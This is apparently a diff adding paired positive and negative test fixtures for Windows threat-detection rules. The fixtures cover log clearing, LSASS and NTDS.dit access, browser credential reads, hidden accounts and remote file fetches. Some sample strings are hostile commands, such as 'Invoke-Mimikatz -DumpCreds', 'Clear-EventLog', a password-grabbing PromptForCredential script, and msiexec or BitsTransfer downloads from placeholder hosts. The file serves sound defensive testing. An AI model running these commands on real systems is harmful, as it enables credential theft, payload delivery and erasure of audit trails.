@@ -949,6 +949,162 @@ WINDOWS: dict[str, tuple[Sent, Sent]] = {
         ),
         ran("cmdkey.exe", "cmdkey /list"),
     ),
+    "windows_domain_trust_added": (
+        security(4706, SubjectUserName="eve", DomainName="evil.invalid"),
+        security(4707, SubjectUserName="eve", DomainName="evil.invalid"),
+    ),
+    "windows_certificate_authority_changed": (
+        security(4882, SubjectUserName="eve"),
+        security(4888, SubjectUserName="eve"),
+    ),
+    "windows_clock_changed_by_user": (
+        security(4616, SubjectUserSid="S-1-5-21-1-2", ProcessName="C:\\Windows\\System32\\cmd.exe"),
+        security(4616, SubjectUserSid="S-1-5-19", ProcessName="C:\\Windows\\System32\\svchost.exe"),
+    ),
+    "windows_event_logs_cleared_by_script": (
+        block("Clear-EventLog -LogName Security"),
+        block("Get-EventLog -LogName Security"),
+    ),
+    "windows_lsass_read_in_security_log": (
+        security(4663, ObjectName="\\x\\lsass.exe", AccessMask="0x10", ProcessName="C:\\t\\a.exe"),
+        security(
+            4663, ObjectName="\\x\\lsass.exe", AccessMask="0x1000", ProcessName="C:\\t\\a.exe"
+        ),
+    ),
+    "windows_lsass_opened_through_logon_service": (
+        sysmon(
+            10,
+            SourceProcessGUID=_GUID,
+            SourceProcessId="4312",
+            SourceImage="C:\\Windows\\System32\\svchost.exe",
+            TargetProcessGUID=_GUID.replace("0c01", "0c02"),
+            TargetProcessId="712",
+            TargetImage="C:\\Windows\\System32\\lsass.exe",
+            GrantedAccess="0x14c0",
+            CallTrace="C:\\Windows\\System32\\seclogon.dll+128f",
+        ),
+        opened("svchost.exe", "0x14c0"),
+    ),
+    "windows_directory_database_opened": (
+        log("Application", 326, "ESENT", Data="lsass NTDS C:\\Windows\\Temp\\x\\ntds.dit"),
+        log("Application", 326, "ESENT", Data="lsass NTDS C:\\Windows\\NTDS\\ntds.dit"),
+    ),
+    "windows_browser_secrets_read": (
+        security(4663, ObjectName="C:\\x\\Login Data", ProcessName="C:\\t\\a.exe"),
+        security(4663, ObjectName="C:\\x\\Login Data", ProcessName="C:\\x\\chrome.exe"),
+    ),
+    "windows_credential_store_backed_up": (
+        security(5376, SubjectUserName="eve"),
+        security(5379, SubjectUserName="eve"),
+    ),
+    "windows_remote_desktop_through_tunnel": (
+        security(4624, LogonType="10", IpAddress="127.0.0.1", TargetUserName="ann"),
+        security(4624, LogonType="10", IpAddress="10.0.0.7", TargetUserName="ann"),
+    ),
+    "windows_service_name_added_to_user": (
+        security(
+            5136,
+            SubjectUserName="eve",
+            AttributeLDAPDisplayName="servicePrincipalName",
+            ObjectClass="user",
+            OperationType="%%14674",
+        ),
+        security(
+            5136,
+            SubjectUserName="eve",
+            AttributeLDAPDisplayName="servicePrincipalName",
+            ObjectClass="computer",
+            OperationType="%%14674",
+        ),
+    ),
+    "windows_scheduled_task_writes_output": (
+        security(
+            4698,
+            TaskName="\\x",
+            TaskContent="<Arguments>/C whoami &gt; %windir%\\Temp\\a.tmp 2&gt;&amp;1",
+        ),
+        security(4698, TaskName="\\x", TaskContent="<Arguments>/C whoami"),
+    ),
+    "windows_hidden_account_in_registry": (
+        of(
+            13,
+            "lsass.exe",
+            TargetObject="HKLM\\SAM\\SAM\\Domains\\Account\\Users\\Names\\eve$\\(Default)",
+        ),
+        of(
+            13,
+            "lsass.exe",
+            TargetObject="HKLM\\SAM\\SAM\\Domains\\Account\\Users\\Names\\eve\\(Default)",
+        ),
+    ),
+    "windows_installer_fetches_by_address": (
+        ran("msiexec.exe", "msiexec /q /i http://x.invalid/a.msi"),
+        ran("msiexec.exe", "msiexec /q /i C:\\t\\a.msi"),
+    ),
+    "windows_thread_started_by_program_of_user": (
+        sysmon(
+            8,
+            SourceProcessGuid=_GUID,
+            SourceImage="C:\\Users\\ann\\a.exe",
+            TargetImage="C:\\Windows\\explorer.exe",
+        ),
+        sysmon(
+            8,
+            SourceProcessGuid=_GUID,
+            SourceImage="C:\\Program Files\\A\\a.exe",
+            TargetImage="C:\\Windows\\explorer.exe",
+        ),
+    ),
+    "windows_attack_script_named": (
+        block("Invoke-Mimikatz -DumpCreds"),
+        block("Get-Help about_Functions"),
+    ),
+    "windows_password_asked_by_script": (
+        block("$c=$host.ui.PromptForCredential('x','','','');$c.GetNetworkCredential().Password"),
+        block("$c=$host.ui.PromptForCredential('x','','','')"),
+    ),
+    "windows_background_transfer_by_script": (
+        block("Start-BitsTransfer -Source http://x.invalid/a.exe -Destination C:\\t\\a.exe"),
+        block("Start-BitsTransfer -Source \\\\srv\\share\\a.exe -Destination C:\\t\\a.exe"),
+    ),
+    "windows_browser_fetches_by_command": (
+        ran(
+            "C:\\x\\msedge.exe",
+            "msedge --headless --dump-dom http://x.invalid/a",
+            parent="cmd.exe",
+        ),
+        ran("C:\\x\\msedge.exe", "msedge http://x.invalid/a", parent="cmd.exe"),
+    ),
+    "windows_scheduled_task_file_hidden": (
+        of(
+            12,
+            "reg.exe",
+            EventType="DeleteValue",
+            TargetObject="HKLM\\x\\Schedule\\TaskCache\\Tree\\a\\SD",
+        ),
+        of(
+            12,
+            "reg.exe",
+            EventType="DeleteValue",
+            TargetObject="HKLM\\x\\Schedule\\TaskCache\\Tree\\a\\Id",
+        ),
+    ),
+    "windows_logon_relayed_with_ticket": (
+        security(
+            4624,
+            LogonType="3",
+            AuthenticationPackageName="Kerberos",
+            IpAddress="127.0.0.1",
+            TargetUserSid="S-1-5-21-1-2-3-500",
+        ),
+        security(
+            4624,
+            LogonType="3",
+            AuthenticationPackageName="Kerberos",
+            IpAddress="10.0.0.7",
+            TargetUserSid="S-1-5-21-1-2-3-500",
+        ),
+    ),
 }
 
 UNIX: dict[str, tuple[Sent, Sent]] = {
